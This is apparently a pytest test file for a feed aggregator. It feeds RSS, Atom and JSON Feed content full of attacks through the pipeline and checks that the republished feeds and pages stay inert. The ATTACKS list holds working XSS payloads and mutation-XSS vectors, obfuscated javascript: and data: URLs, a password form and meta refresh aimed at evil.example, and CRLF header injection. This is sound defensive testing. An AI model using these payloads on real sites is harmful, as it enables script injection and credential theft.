"""Feeds that attack whoever reads on: what is republished parses whole, and nothing in it is active."""

import base64
import json
import re
from html import escape
from pathlib import Path

import pytest
from lxml import etree

from feeds.curate.normalise import normalise
from feeds.model import Enclosure
from feeds.publish.site import SiteFile, render
from tests.builders import (
    NOW,
    a_channel,
    a_coverage,
    a_head,
    a_published_item,
    a_source,
    a_source_line,
    a_story,
    an_entry,
)
from tests.fakes_http import RawServer, Reply, Seen, reply
from tests.harmless import harm, harmful_address
from tests.town import Output, configure, empty_home, read_here, rows, run

CORPUS = Path(__file__).resolve().parents[2] / "shared" / "faults" / "xss_corpus.jsonl"
RUNS = "parent.ran(7)"
ATTACKS = (
    f"<script>{RUNS}</script>",
    f"<ScRiPt/x>{RUNS}</sCrIpT\t>",
    f"<img src=q onerror={RUNS}>",
    f"<img src='q' /onerror = '{RUNS}'//",
    f"<svg/onload={RUNS}><use href='data:image/svg+xml,x'/></svg>",
    f"<a href='java\nscript:{RUNS}'>read on</a>",
    f"<a href=' &#1;javascript&colon;{RUNS}'>read on</a>",
    f"<a href='data:text/html,<script>{RUNS}</script>'>read on</a>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=q onerror={RUNS}>'>",
    f"<noscript><p title='</noscript><img src=q onerror={RUNS}>'>",
    f"<svg></p><style><a title='</style><img src=q onerror={RUNS}>'>",
    f"<iframe srcdoc='&lt;script>{RUNS}&lt;/script>'></iframe><object data=q></object><embed src=q>",
    "<form action=//evil.example/><input name=p type=password><button formaction=q>go</button></form>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<style>*{background:url(//evil.example/)}</style><p style='position:fixed;inset:0'>over it</p>",
    f"]]><script>{RUNS}</script><![CDATA[",
    f"<!--><img src=q onerror={RUNS}>--><!--[if true]><script>{RUNS}</script><![endif]-->",
    f"&lt;img src=q onerror={RUNS}&gt; &amp;lt;script&amp;gt;{RUNS}&amp;lt;/script&amp;gt;",
    "\u202egnirts\u2066 \x00\x07\x0b\x1b[31m\x9b2J \u200b\ufeff\ufffe\uffff \U0001f319\u200d\U0001f680",
    "subject\r\nBcc: all@example.org\r\n\r\nbody\u2028\u2029\x85",
    "&#0;&#11;&#xD800;&#xFFFE;&#x110000;&#99999999999;&bogus;&",
    "<" * 400 + "b" + ">" * 400,
    "<div>" * 3000 + "deep",
)
SUBJECT = "International Lunar Research Station, the lunar base ILRS"


@pytest.fixture(autouse=True)
def work(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Stand in an empty folder, with nothing read in another process."""
    read_here(monkeypatch)
    return empty_home(tmp_path, monkeypatch)


def _xml(text: str) -> str:
    """Escape for XML; what XML can not carry stays in, as broken publishers leave it in."""
    return escape(text, quote=True)


def _rss(host: str) -> str:
    items = "".join(
        f"""<item><title>{_xml(f"{n} {SUBJECT} {attack[:300]}")}</title>
        <guid>{_xml(f"{n} {attack[:100]}")}</guid>
        <link>http://{host}/a/{n}?q={_xml(attack[:60])}</link><author>{_xml(attack[:200])}</author>
        <category>{_xml(attack[:200])}</category><pubDate>Sun, 08 Mar 2026 10:{n:02}:00 GMT</pubDate>
        <enclosure url="http://{host}/{n}.mp3" type="{_xml(attack[:50])}" length="-1"/>
        <description>{_xml(f"<p>{SUBJECT} number {n}.</p>{attack}")}</description></item>"""
        for n, attack in enumerate(ATTACKS)
    )
    return f"<rss version='2.0'><channel><title>{_xml(ATTACKS[0])}</title>{items}</channel></rss>"


def _atom(host: str) -> str:
    entries = "".join(
        f"""<entry><title type="html">{_xml(f"{n} seen: {SUBJECT} {attack[:300]}")}</title><id>urn:a:{n}</id>
        <link href="http://{host}/b/{n}"/><updated>2026-03-07T10:{n:02}:00Z</updated>
        <content type="html" xml:base="javascript:{RUNS}//">
        {_xml(f"{SUBJECT} as of {n}.{attack}")}</content></entry>"""
        for n, attack in enumerate(ATTACKS)
    )
    return f"<feed xmlns='http://www.w3.org/2005/Atom'><title>B</title>{entries}</feed>"


def _json(host: str) -> str:
    items = [
        {
            "id": f"c{n}",
            "url": f"http://{host}/c/{n}",
            "title": f"{n} told: {SUBJECT} {attack[:300]}",
            "content_html": f"{SUBJECT} report {n}.{attack}",
            "image": f"javascript:{RUNS}",
            "date_published": f"2026-03-06T10:{n:02}:00Z",
        }
        for n, attack in enumerate(ATTACKS)
    ]
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "C", "items": items})


def _publisher(seen: Seen) -> Reply:
    make = {"/rss": _rss, "/atom": _atom, "/json": _json}[seen.target]
    return reply(200, make(seen.header("Host") or "").encode("utf-8", "surrogatepass"))


def test_what_is_republished_of_hostile_feeds_parses_and_is_harmless(work: Path, capsys: Output) -> None:
    """RSS, Atom and JSON Feed full of attacks through the whole wire into its own feeds and pages."""
    with RawServer(_publisher) as server:
        urls = [server.url(f"/{kind}") for kind in ("rss", "atom", "json")]
        configure(work, *urls, more="[publish]\ndir = 'site'\nentries = 500\n")
        fetched = rows(capsys, "fetch")
    assert [row["entries"] for row in fetched] == [len(ATTACKS)] * 3
    stored = rows(capsys, "items", "--all", "--limit", "0")
    assert {row["source"] for row in stored} == set(urls)
    for row in stored:
        assert not harm(row["content"]), row["content"]
        assert not harm(row["title"]), row["title"]
        assert not any(harmful_address(row[key]) for key in ("url", "source"))
    assert "\x1b" not in run(capsys, "items", "--all", "--limit", "0")
    site = {path.name: path.read_bytes() for path in (work / "site").iterdir() if path.is_file()}
    assert _checked(site) >= len(ATTACKS) / 2


def _checked(site: dict[str, bytes]) -> int:
    """Parse the published files whole, look for harm in all their HTML; return how many stories they show."""
    rss = etree.fromstring(site["feed.rss"])
    atom = etree.fromstring(site["feed.atom"])
    etree.fromstring(site["sources.opml"])
    shown = json.loads(site["feed.json"].decode())["items"]
    a = "{http://www.w3.org/2005/Atom}"
    texts = [node.text or "" for kind in ("title", "description") for node in rss.iter(kind)]
    texts += [node.text or "" for kind in ("title", "summary", "content") for node in atom.iter(f"{a}{kind}")]
    texts += [item.get(key, "") for item in shown for key in ("title", "content_html")]
    links = [node.text or "" for node in rss.iter("link")]
    links += [node.get(key, "") for node in (*rss.iter(), *atom.iter()) for key in ("url", "href", "src")]
    links += [item[key] for item in shown for key in ("url", "external_url", "image") if key in item]
    for text in texts:
        found = harm(text)
        assert not found, text[:300]
    assert not [link for link in links if harmful_address(link)]
    page = site["index.html"].decode()
    listed = page[page.index("<main") : page.index("</main>")].partition(">")[2]
    frames = {"<section>", "<article>", "<header>", "<footer>"}
    marks = (" class>", " aria-labelledby>", " aria-label>", " id>", " loading>", " role>")
    assert not [h for h in harm(listed) if h not in frames and not h.endswith(marks)]
    assert len(rss.findall(".//item")) == len(atom.findall(f"{a}entry")) == len(shown)
    return len(shown)


@pytest.mark.parametrize("attack", [text for text in ATTACKS if re.search(r"<(?!<|div>|b>)", text)])
def test_the_check_sees_each_attack_raw(attack: str) -> None:
    """A check that finds nothing in the attacks themselves would prove nothing."""
    assert harm(attack)


@pytest.mark.parametrize("address", ["javascript:x", " \x01jAva\nscript:x", "data:text/html,x", "file:///x"])
def test_the_check_sees_harmful_addresses(address: str) -> None:
    """As a browser reads them: spaces and controls around and line ends inside do not count."""
    assert harmful_address(address)
    assert not harmful_address("https://a.example/javascript:x")


TAKEN = (
    "title",
    "summary",
    "content",
    "url",
    "source_name",
    "authors",
    "thumbnail",
    "enclosures",
    "language",
)


def _published(number: int, payload: str) -> dict[str, bytes]:
    """Take a payload in every field of an entry through curation and rendering."""
    entry = an_entry(
        number,
        title=payload,
        summary=payload,
        content=f"<p>{SUBJECT}</p>{payload}",
        link=payload if "://" not in payload[:8] else f"https://a.example/{number}",
        authors=(payload,),
        categories=(payload,),
        thumbnail=payload,
        enclosures=(Enclosure(url=payload, type=payload),),
        via_title=payload,
        via_url=payload,
    )
    (made,) = normalise([entry], a_source(name=payload), a_head(link=payload), now=NOW)
    item = made[0]
    lead = a_published_item(
        number,
        **{name: getattr(item, name) for name in TAKEN},
        tags=item.categories,
    )
    also = a_coverage(number + 1, title=item.title, url=item.url, source_name=item.source_name)
    files: dict[str, SiteFile] = render(
        a_channel(), [a_story(number, lead=lead, also=(also,))], [a_source_line(name=payload, home=payload)]
    )
    return {name: file.body for name, file in files.items()}


@pytest.mark.material
@pytest.mark.skipif(not CORPUS.exists(), reason="the collection of payloads is not here")
def test_known_payloads_come_out_harmless() -> None:
    """Payloads others collected, in every field at once, through curation and rendering."""
    lines = CORPUS.read_text(encoding="utf-8").splitlines()
    payloads = [json.loads(line)["payload"] for line in lines]
    assert len(payloads) > 300
    for number, payload in enumerate(payloads, start=1000):
        assert _checked(_published(number, payload)) == 1, payload


def test_encoded_payloads_come_out_harmless() -> None:
    """Our own attacks in every field at once, through curation and rendering alone."""
    for number, attack in enumerate(ATTACKS, start=100):
        assert _checked(_published(number, attack)) == 1
        wrapped = f"<a href='data:text/html;base64,{base64.b64encode(attack.encode()).decode()}'>x</a>"
        assert _checked(_published(number, wrapped)) == 1
